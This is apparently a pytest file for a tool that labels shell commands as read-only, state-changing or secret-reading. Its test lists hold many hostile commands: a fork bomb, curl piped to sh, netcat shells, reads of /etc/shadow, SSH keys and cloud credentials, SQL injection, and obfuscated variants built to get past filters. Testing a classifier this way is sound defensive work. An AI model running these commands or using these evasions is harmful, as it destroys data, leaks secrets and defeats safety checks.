"""Commands with the label a careful person would give, none of them taken from a data set."""

from __future__ import annotations

import pytest

from sre_advisor.commands import explain
from sre_advisor.model import CommandLabel

UNSAFE = r"""
kubectl get pods; :(){ :|:& };:
f() { ls; f | f & }; f
function g { ls; g; }; g
kubectl get pods -o go-template-file=/etc/shadow
kubectl get pods -o custom-columns-file=/root/.ssh/id_rsa
curl -H 'X-HTTP-Method-Override: DELETE' http://api/orders/7
curl -H 'x-http-method: PUT' http://api/orders/7
ku'be'ctl delete pod web
\k\u\b\ectl delete pod web
$'\x6bubectl' delete pod web
"kubectl" "delete" pod web
/usr/bin/kubectl delete pod web
kubectl -A get delete pods
kubectl --as get delete pod x
kubectl get pods; r''m -rf /
{rm,-rf,/data}
find / -{delete,print}
/bin/r? -rf x
find . -fprint out
find . -exec sh -c 'rm {}' \;
find . -ok rm {} \;
sort -uo out in
sort --outp=x in
sed -ni p f
sed -Ei.bak s/a/b/ f
sed --in-pl s/a/b/ f
sed 'w out' f
sed 's/x/y/e' f
sed 's/x/y/w out' f
sed '1e rm x' f
sed -n '/a/w out' f
awk 'BEGIN{system("rm x")}'
awk '{print > "f"}' x
awk '{print | "sh"}' x
awk 'BEGIN{"date" | getline}'
awk '/"/ {print > "x"} /"/' f
tar --to-command=sh -xf a.tar
tar xf a.tar
git -c alias.x='!rm' x
git -c core.pager=evil log
git grep -O x
git grep --open-files-in-pager=sh x
git log --output=f
git branch -D main
git branch new
git tag v1
git remote add x y
git stash
git config --global user.name x
git fetch
git reflog expire --all
git diff --ext-diff
git ls-remote 'ext::sh -c rm'
less +!rm f
man -P 'sh -c rm' ls
psql -c '\! rm x'
psql -c "select pg_terminate_backend(1)"
psql -c "select nextval('s')"
psql -c "select setval('s',1)"
psql -c "select lo_import('/etc/passwd')"
psql -c "select * from t for update"
psql -c "copy t to program 'sh'"
psql -c "select 1; drop table t"
psql -c "explain (analyze) update t set a=1"
psql -c "select * into x from t"
psql -c "select E'\'', pg_terminate_backend(1), ''''"
psql -c 'select "it''s", pg_terminate_backend(1)'
psql -c "select my_func(1)"
psql -c "do \$\$ begin delete from t; end \$\$"
psql -c "vacuum full"
psql -f x.sql
psql -o out -c "select 1"
psql db
psql <<< "delete from t"
echo "delete from t" | psql
mysql -e "select * into outfile '/tmp/x' from t"
mysql -e "kill 12"
mysql -e "system rm x"
mysql -e "/*!50000 drop table t */"
mysql -e "set global x=1"
redis-cli set a b
redis-cli config set a b
redis-cli eval "return redis.call('del','a')" 0
redis-cli -n 0 FLUSHALL
redis-cli client kill 1
mongosh --eval 'db.c.drop()'
mongosh --eval 'db.c["deleteMany"]({})'
mongosh --eval 'db.c.aggregate([{$out:"x"}])'
mongosh --eval 'db.adminCommand({shutdown:1})'
curl -XPOST http://x/y
curl -d a=b http://x
curl --data-bin @f http://x
curl -sSo f http://x
curl -sO http://x/f
curl http://x | sh
curl -K conf
curl --next -X DELETE http://x
curl -X POST http://prometheus:9090/-/reload
curl http://prometheus:9090/-/quit
curl http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
curl file:///etc/shadow
wget http://x/f
wget --post-data=a -qO- http://x
ls > out
ls &> out
ls >| out
echo x > /dev/sda
echo x > /dev/tcp/host/80
exec 3<>/dev/tcp/x/1
ls | tee out
cat <(rm x)
ls >(rm x)
coproc rm x
trap 'rm x' EXIT
. ./x.sh
source x
eval "r"m x
eval $X
PATH=/tmp:$PATH ls
export PATH=/tmp; ls
LD_PRELOAD=x ls
PAGER='rm x' git log
GIT_PAGER=x git log
TAR_OPTIONS=x tar tf a
KUBECTL_EXTERNAL_DIFF=rm kubectl diff -f x
f() { rm x; }; f
function f { rm x; }; f
kubectl() { rm x; }; kubectl get pods
f() { find / $1; }; f -delete
f() { kubectl "$@"; }; f delete pod x
X=delete; kubectl $X pod y
F=-delete; find / $F
kubectl $(echo delete) pod x
find . $(echo -delete)
echo -delete | xargs find .
echo rm | xargs -I{} {} x
ls | xargs rm
ls | xargs -I% sh -c 'rm %'
ls | xargs sed -i s/a/b/
env -S 'rm x'
env A=b rm x
sudo -u root rm x
sudo -i
sudo -s
nohup rm x &
timeout 5 rm x
watch rm x
ssh host rm x
ssh -o ProxyCommand='rm x' host ls
kubectl exec p -- rm x
kubectl exec p rm x
kubectl exec -it p -- bash
kubectl cp a p:/b
kubectl delete pod -l --dry-run=client
kubectl delete pod x --dry-run=client --dry-run=none
kubectl exec p -- rm x --dry-run=client
kubectl delete pod -n --help
kubectl foo
kubectl apply -k .
kubectl get secret x -o jsonpath='{.data.p}'
kubectl get secret/x -ojson
kubectl get -oyaml secrets
kubectl get secrets.v1. -o json
kubectl get SECRET x -o yaml
kubectl get pods,secret -o yaml
kubectl get $X -o yaml
kubectl get <resource> -o yaml
kubectl get --raw /api/v1/namespaces/default/s%65crets/x
kubectl get --raw=/api/v1/namespaces/d/pods/p/proxy/admin/delete
kubectl get secrets -o go-template='{{.}}'
kubectl get secrets -v=9
kubectl describe secrets
kubectl config view --raw
kubectl config view --flatten --raw=true
kubectl create secret generic x --from-file=a --dry-run=client -o yaml
kubectl exec p -- printenv
kubectl exec p -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
kubectl exec p -- sh -c 'env'
kubectl exec p -- sh -c 'echo $DB_PASSWORD'
kubectl edit deploy x
kubectl scale --replicas=0 deploy x
kubectl proxy
kubectl --kubeconfig <(echo x) get pods
cat /etc/shadow
cat /etc//shadow
cat /etc/./shadow
cat /etc/x/../shadow
cat /etc/sh*w
cat ~/.ssh/*
cat < /etc/shadow
cd /etc && cat shadow
cat $HOME/.aws/credentials
cat .env
head -1 id_rsa
base64 ~/.kube/config
F=/etc/shadow; cat $F
A=/etc/sha; cat ${A}dow
cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)
echo /etc/shadow | xargs cat
find / -name id_rsa | xargs cat
find / -name '*.conf' -exec cat {} +
grep -r password /etc
grep -ri api_key .
strings /proc/1/environ
tr '\0' '\n' < /proc/1/environ
ps auxe
env
printenv
set
export -p
declare -p
echo $AWS_SECRET_ACCESS_KEY
printenv DB_PASSWORD
jq -n env
jq -n '$ENV.X'
awk 'BEGIN{for(k in ENVIRON)print k}'
docker inspect web
docker inspect -f '{{json .Config}}' web
docker exec web env
docker run x
docker compose config
helm get values x
helm install x --dry-run=none y
helm template x --output-dir d
helm template x --post-renderer ./evil
terraform output -json
terraform plan -out=x
terraform fmt
terraform state pull
aws secretsmanager get-secret-value --secret-id x
aws ssm get-parameter --name x --with-decryption
aws sts get-session-token
aws ecr get-login-password
aws s3 cp a s3://b
aws s3api get-object --bucket b --key k out
aws s3 presign s3://a/b
aws lambda invoke --function-name x out
aws configure get aws_secret_access_key
aws eks update-kubeconfig --name x
aws sqs receive-message --queue-url x
aws ec2 --query describe-instances terminate-instances
az keyvault secret show --name x --vault-name y
az storage account keys list --account-name x
az aks get-credentials --name x
az vm run-command invoke --command-id x
gcloud secrets versions access latest --secret=x
gcloud auth print-access-token
gcloud compute instances delete x
gcloud compute ssh x
gcloud compute ssh x --command='rm y'
gh auth token
gh pr merge 1
gh api -X DELETE /repos/a/b
gh api /repos/a/b -f x=y
systemctl restart x
systemctl show-environment
systemctl --now stop x
journalctl --vac=1d
journalctl --rotate
service x restart
ip link set eth0 down
ip netns exec x rm y
ip a add 1.2.3.4 dev eth0
ifconfig eth0 down
iptables -F
sysctl -w a=b
sysctl a=b
dmesg -C
dmesg -c
date -s 10:00
hostname foo
mount /dev/sda /mnt
crontab -r
ss -K dst 1.2.3.4
tcpdump -w out
top | tee x
uniq a b
xxd -r a b
tree -o x
openssl rsa -in k -text
python3 -c 'print(1)'
perl -e 1
./kubectl get pods
/tmp/kubectl get pods
kubеctl get pods
unknowntool --help
!!
kubectl get pods !$
ls # x; rm y
alias k=kubectl
promtool push metrics http://x f
promtool tsdb create-blocks-from openmetrics x
amtool silence add a=b
amtool silence expire x
argocd app sync x
argocd context other
argocd admin initial-password
argocd app get x --hard-refresh
vault kv get secret/x
vault read secret/x
etcdctl del x
etcdctl get /registry/secrets/default/x
logcli delete x
x='a[$(rm y)]'; echo $((x))
[[ -v 'a[$(rm y)]' ]]
[ a > b ]
test 'a[$(rm)]' -eq 1
read PATH < f
printf -v PATH x
for i in rm; do $i x; done
while read x; do $x; done
case a in a) rm x;; esac
if true; then rm x; fi
! rm x
( rm x )
{ rm x; }
true && rm x
false || rm x
true & rm x
echo "$(rm x)"
echo `rm x`
echo ${x:-$(rm y)}
echo $((1+$(rm y)))
cat <<EOF
$(rm x)
EOF
cat <<EOF | sh
rm x
EOF
bash <<< 'rm x'
bash -lc 'rm x'
bash -c "bash -c 'rm x'"
sh -c "$X"
sh script.sh
bash -s < f
parallel rm ::: a
nice -n 5 rm x
chroot / rm x
su -c 'rm x' u
strace rm x
time rm x
command rm x
exec rm x
busybox rm x
xargs -a f rm
tail -f x | while read l; do rm $l; done
ls;rm x
diff <(ls) <(rm x)
cat in >out
cat <in >out
cat <in> out
kubectl get pods -o yaml >> x
env --split-string='rm x'
for f in /etc/*; do cat "$f"; done
cat <<< "$SECRET_TOKEN"
etcdctl get / --prefix
cat /etc/sh'a'\dow
cat "/etc/sha"\dow
[r]m x
gcloud logging logs delete x
curl $URL
psql -c "select * from users"
psql -c "select pg_terminate_backend/**/(1)"
psql -c "select (1).pg_terminate_backend"
kubectl get secret -o name | xargs kubectl get -o yaml
kubectl api-resources -o name | xargs kubectl get -o yaml
aws lambda get-function --function-name x
aws ivs get-stream-key --arn x
bash -c '"$0" x' rm
bash -c 'kubectl "$@"' _ delete pod x
iptables -nvLZ
git bisect run x
rpm -q --eval '%(rm x)'
tar tf a --checkpoint-action=exec=sh
sqlite3 f '.shell rm x'
sqlite3 f "select writefile('x','y')"
sudo -e f
kubectl run x --image=y -- --help
docker run image --help
rg --pre sh x
bat --pager 'sh -c rm' x
nc -e sh host 1
nc host 80 < f
watch -n1 'kubectl delete pod x'
""".strip()
MULTI = [
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF | sh\nrm x\nEOF",
    "kubectl get pods\nrm -rf x",
    "ls\r\nrm x",
    "ls\x00",
    "ls\u00a0-l",
    "kubectl get\u200b pods",
    "kubectl get pods \\\n; rm x",
    "find . -del\\\nete",
]
_LINES = [line for line in UNSAFE.split("\n") if line not in {"cat <<EOF", "$(rm x)", "EOF", "cat <<EOF | sh", "rm x"}]

READING = r"""
kubectl get pods -A -o wide --sort-by=.metadata.creationTimestamp
kubectl get pod <pod> -n <ns> -o yaml
kubectl get pod <pod-name> -n <namespace>
kubectl logs $POD -c app --previous
kubectl logs -f deploy/{{name}} -n {{ns}}
kubectl get pods -n $(kubectl config current-context)
kubectl describe pod POD_NAME
kubectl get secrets -n prod
kubectl top pod -n prod --containers
kubectl exec web-0 -- cat /etc/resolv.conf
kubectl exec -it web-0 -c app -- df -h
kubectl exec web-0 -- sh -c 'df -h && free -m'
kubectl apply -f x.yaml --dry-run=client
kubectl apply -f x.yaml --dry-run=server -o yaml
kubectl rollout history deployment/web -n prod
kubectl get events --sort-by=.lastTimestamp | tail -n 20
kubectl get pods -o json | jq '.items[] | .metadata.name'
kubectl get pods -o jsonpath='{.items[*].metadata.name}' | tr ' ' '\n' | sort | uniq -c
kubectl get pods --no-headers | awk '$3 != "Running" {print $1, $3}'
for p in $(kubectl get pods -o name); do kubectl logs $p --tail=5; done
kubectl get pods -o name | xargs -n1 kubectl describe
kubectl get pods | grep -v Running | wc -l
KUBECONFIG=~/.kube/prod kubectl get nodes
NS=prod; kubectl get pods -n $NS
kubectl get configmap app -o yaml
kubectl delete --help
watch -n 5 kubectl get pods
ssh node-1 uptime
ssh -o ConnectTimeout=5 admin@<host> "df -h; free -m"
sudo journalctl -u kubelet --since '10 min ago' -n 100 --no-pager
systemctl status nginx
systemctl list-units --failed
timeout 10 curl -sf http://localhost:8080/healthz
curl -s -o /dev/null -w '%{http_code}' https://example.com/
curl -sG http://prometheus:9090/api/v1/query --data-urlencode 'query=up'
curl -s "http://prometheus:9090/api/v1/query?query=up" | jq .
curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/status
ls -la /var/log | head
cat /etc/hosts
tail -f /var/log/nginx/error.log
tail -n 500 /var/log/app.log | grep -i error | tail -20
grep -c ERROR /var/log/app.log
grep -rn timeout /etc/nginx/
zgrep 'OOM' /var/log/syslog.2.gz
du -sh /var/log/* | sort -rh | head
df -h
free -m
ps aux --sort=-%mem | head -n 15
top -bn1 | head -20
ss -tlnp
netstat -tulpn
lsof -i :8080
dig +short example.com
ping -c 3 10.0.0.1
ip addr show
uptime && free -h && vmstat 1 5
dmesg -T | tail -50
find /var/log -size +100M -exec ls -lh {} \;
git log --oneline --since='2 days ago' -- src/app
git show HEAD~1 --stat
git diff v1.2..v1.3 -- charts/
git blame -L 10,20 app.py
git branch -a --contains abc123
git -C /srv/repo --no-pager log -3
gh pr list --state merged --limit 10
gh run view 123 --log-failed
gh api repos/o/r/commits
helm history web -n prod
helm list -A
helm diff upgrade web ./chart
terraform show
terraform state list
terraform validate
docker ps -a
docker logs --tail 100 web
docker stats --no-stream
docker exec web cat /etc/hosts
docker compose ps
aws ec2 describe-instances --instance-ids i-1 --query 'Reservations[].Instances[].State'
aws logs filter-log-events --log-group-name /x --filter-pattern ERROR
aws logs tail /aws/lambda/x --since 1h
aws s3 ls s3://bucket/prefix/
aws cloudwatch get-metric-statistics --namespace AWS/RDS --metric-name CPUUtilization
aws sts get-caller-identity
aws ecs wait services-stable --cluster c
az aks show --name c --resource-group g
az monitor metrics list --resource x --metric cpu
gcloud container clusters list
gcloud logging read 'severity>=ERROR' --limit 20
gcloud compute instances describe web-1 --zone us-east1-b
psql -h db -U app -c "select pid, state, query from pg_stat_activity where state <> 'idle'"
psql -c "select pg_size_pretty(pg_database_size('app'))"
psql -c '\dt+'
psql -l
psql -c "explain (costs off) select * from t"
psql -c "show max_connections"
psql <<< "select 1"
echo "select 1" | psql
mysql -e "show processlist"
mysql -u root -p -e "SHOW ENGINE INNODB STATUS\G"
mysql -e "select count(*) from orders where created_at > now() - interval 1 hour"
redis-cli -h r info
redis-cli slowlog get 10
redis-cli --bigkeys
redis-cli config get maxmemory
mongosh --eval 'rs.status()'
mongosh --eval 'db.orders.find({state: "new"}).limit(5)'
promtool query instant http://p:9090 'up == 0'
promtool check rules rules.yml
amtool alert query alertname=X
amtool silence query
logcli query '{app="web"} |= "error"' --since=1h
argocd app diff web
argocd app get web
journalctl -k | grep -i oom
openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -noout -dates
nc -zv db 5432
sed -n '10,20p' app.log
sed 's/a/b/g; s/c/d/' file
awk -F: '{print $1}' /etc/passwd
awk '{s+=$1} END {print s/NR}' times.txt
awk '$9 >= 500 {c[$7]++} END {for (u in c) print c[u], u}' access.log | sort -rn
jq -r '.level + " " + .msg' app.json
cut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head
date -u +%FT%TZ
echo done
[ -f /tmp/x ] && echo yes
test -d /data || echo missing
stern web -n prod --since 5m
crictl ps -a
crictl logs abc
nproc; lscpu | grep Model
kubectl get pods 2>&1 | head
kubectl get pods > /dev/null
true
""".strip().split("\n")


LATER = [
    "echo 'select :x' | psql -v x='1; drop table y'",
    "psql --set x='1; drop table y' <<< 'select :x'",
    "kubectl delete --raw /api/v1/nodes/x --dry-run=client",
    "kubectl replace --raw /api/v1/nodes/x -f y --dry-run=server",
    "kubectl create --raw=/api/v1/nodes -f y --dry-run=server",
    "kubectl get pods --profile=cpu --profile-output=/etc/x",
    "kubectl logs web --log-file=/etc/x",
    "git log $(git log -1 --format=%s)",
    "m=$(git show -s --format=%B); git log $m",
    "git show `git config alias.x`",
    "git log $(git log -1 --format=%H; git log -1 --format=%s)",
    "git log $(git log -1 --format=%s --format=%h%s)",
    "kubectl < x delete pod y",
    "xargs < f rm",
    "ls | xargs 2>/dev/null rm",
    "find . </dev/null -delete",
    "! kubectl < x delete pod y",
    "git log $(ls) <<E --output=f\nx\nE",
    "export < /dev/null PATH=/tmp; ls",
    "{ ls; } < x rm y",
    "kubectl exec web-0 -- printenv DATABASE_URL",
    'etcdctl get "" --prefix --keys-only=false',
    'psql -c "table users"',
    'psql -c "select u.* from orders o join users u on u.id = o.user_id"',
    'psql -c "select * from orders, users"',
    'curl -v -H "Authorization: Bearer $TOKEN" http://x',
    "curl --trace-ascii - -u admin:x http://x",
    "mysqladmin status shutdown",
    "tune2fs -l -L x /dev/sda1",
    "mdadm --detail --stop /dev/md0",
    "less +!rm f",
    "alias k='kubectl delete pod web'",
]


@pytest.mark.parametrize("command", [*_LINES, *MULTI, *LATER])
def test_a_changing_or_secret_reading_command_is_never_called_reading(command: str) -> None:
    assert explain(command).label is not CommandLabel.READ_ONLY


NAMED = [
    "git show $(git rev-parse HEAD)",
    "git log $(git merge-base main HEAD)",
    "git show $(git log -1 --format=%H -- src)",
    "git show --stat $(git log --format=%h -1)",
    "psql -v ON_ERROR_STOP=1 -c 'select 1'",
    "find / -name core 2>/dev/null -type f",
    "kubectl get pods 2>&1 -n web",
    'psql "$DATABASE_URL" -c "select 1"',
    "etcdctl get / --prefix --keys-only",
    "curl -sS -H 'Authorization: Bearer $TOKEN' http://x",
    "curl -sv https://x",
    "mysqladmin -h db -u root processlist",
    "tune2fs -l /dev/sda1",
    "mdadm --detail /dev/md0",
    "fdisk -l",
    "less +F /var/log/x",
    "kubectl run x --image=y --dry-run=client -o yaml",
]


@pytest.mark.parametrize("command", [*READING, *NAMED])
def test_an_ordinary_look_is_called_reading(command: str) -> None:
    effect = explain(command)
    assert effect.label is CommandLabel.READ_ONLY, effect.why


@pytest.mark.parametrize(
    ("command", "label", "reversible", "radius"),
    [
        ("kubectl delete pod web-0", CommandLabel.CHANGES_STATE, None, "pods"),
        ("kubectl delete namespace prod", CommandLabel.CHANGES_STATE, False, "namespace"),
        ("kubectl scale deploy web --replicas=3", CommandLabel.CHANGES_STATE, True, "workload"),
        ("kubectl drain node-1", CommandLabel.CHANGES_STATE, None, "node"),
        ("helm rollback web 3", CommandLabel.CHANGES_STATE, True, "release"),
        ("redis-cli flushall", CommandLabel.CHANGES_STATE, False, "data"),
        ("systemctl stop nginx", CommandLabel.CHANGES_STATE, True, "service"),
        ("rm -rf /data", CommandLabel.CHANGES_STATE, False, "files"),
        ("ls > out.txt", CommandLabel.CHANGES_STATE, None, "file"),
        ("kubectl get secret db -o yaml", CommandLabel.READS_SECRET, None, "secret"),
        ("kubectl get pods", CommandLabel.READ_ONLY, None, "nothing"),
        ("kubectl delete pod --all -A", CommandLabel.CHANGES_STATE, False, "the cluster"),
        ("kubectl delete pods --all -n web", CommandLabel.CHANGES_STATE, False, "a namespace"),
        ("kubectl delete pods -l app=web", CommandLabel.CHANGES_STATE, None, "selector matches"),
        ("kubectl rollout restart deploy --all-namespaces", CommandLabel.CHANGES_STATE, None, "the cluster"),
        ("kubectl cordon -l pool=a", CommandLabel.CHANGES_STATE, True, "nodes that the selector"),
        ("kubectl taint nodes --all x=y:NoExecute", CommandLabel.CHANGES_STATE, None, "all nodes"),
        ("kubectl taint nodes n1 x=y:NoSchedule", CommandLabel.CHANGES_STATE, True, "one node"),
        ("kubectl exec web-0 -- rm -A x", CommandLabel.CHANGES_STATE, False, "files in one container"),
        ("docker run --rm -v /:/host alpine rm -rf /host/x", CommandLabel.CHANGES_STATE, None, "of the host"),
        ("docker compose run --rm app migrate", CommandLabel.CHANGES_STATE, None, "container"),
        ("kubectl run x --image=y -- curl -X DELETE http://o/1", CommandLabel.CHANGES_STATE, False, "behind the address"),
        ("kubectl run x --image=y -- sh", CommandLabel.CHANGES_STATE, None, "pod"),
        ("kubectl exec web-0 -- rm x", CommandLabel.CHANGES_STATE, False, "files in one container"),
        ("git push", CommandLabel.CHANGES_STATE, None, "repository"),
        ("git push --force", CommandLabel.CHANGES_STATE, False, "repository"),
        ("git push origin +main", CommandLabel.CHANGES_STATE, False, "repository"),
        ("git clean -fdx", CommandLabel.CHANGES_STATE, False, "working tree"),
        ("git checkout -- x", CommandLabel.CHANGES_STATE, False, "working tree"),
        ("git checkout main", CommandLabel.CHANGES_STATE, None, "working tree"),
        ("git reset --hard", CommandLabel.CHANGES_STATE, False, "working tree"),
        ("git reset HEAD x", CommandLabel.CHANGES_STATE, True, "repository"),
        ("git add .", CommandLabel.CHANGES_STATE, True, "working tree"),
        ("alias ls='rm x'", CommandLabel.CHANGES_STATE, False, "files"),
        ("aws cloudformation deploy --stack-name x", CommandLabel.CHANGES_STATE, None, "cloud"),
        ("gcloud storage rm gs://x/y", CommandLabel.CHANGES_STATE, False, "cloud"),
        ("gh repo delete a/b", CommandLabel.CHANGES_STATE, False, "repository"),
        ("dropdb x", CommandLabel.CHANGES_STATE, False, "data"),
        ("redis-cli lpop q", CommandLabel.CHANGES_STATE, False, "data"),
        ("wget -qO- --method=DELETE http://x", CommandLabel.CHANGES_STATE, None, "behind the address"),
        ("curl -o /etc/x http://y", CommandLabel.CHANGES_STATE, None, "file"),
        ("frobnicate --all", CommandLabel.UNKNOWN, None, "not known"),
    ],
)  # fmt: skip
def test_the_radius_and_the_way_back_are_named(
    command: str, label: CommandLabel, reversible: bool | None, radius: str
) -> None:
    effect = explain(command)
    assert (effect.label, effect.reversible) == (label, reversible)
    assert radius in effect.blast_radius


def test_where_output_goes_is_not_given_as_the_reason_why_a_command_only_reads() -> None:
    assert explain("kubectl get pods 2>/dev/null").why == explain("kubectl get pods").why


def test_what_a_tool_of_a_host_changes_is_said() -> None:
    assert explain("rm -rf /data").why == "rm: deletes files"
    assert "disk" in explain("mkfs.ext4 /dev/sda1").why


def test_a_change_outranks_a_secret_and_both_outrank_doubt() -> None:
    assert explain("rm x; cat /etc/shadow; frobnicate").label is CommandLabel.CHANGES_STATE
    assert explain("cat /etc/shadow; frobnicate").label is CommandLabel.READS_SECRET
    assert explain("ls; frobnicate").label is CommandLabel.UNKNOWN
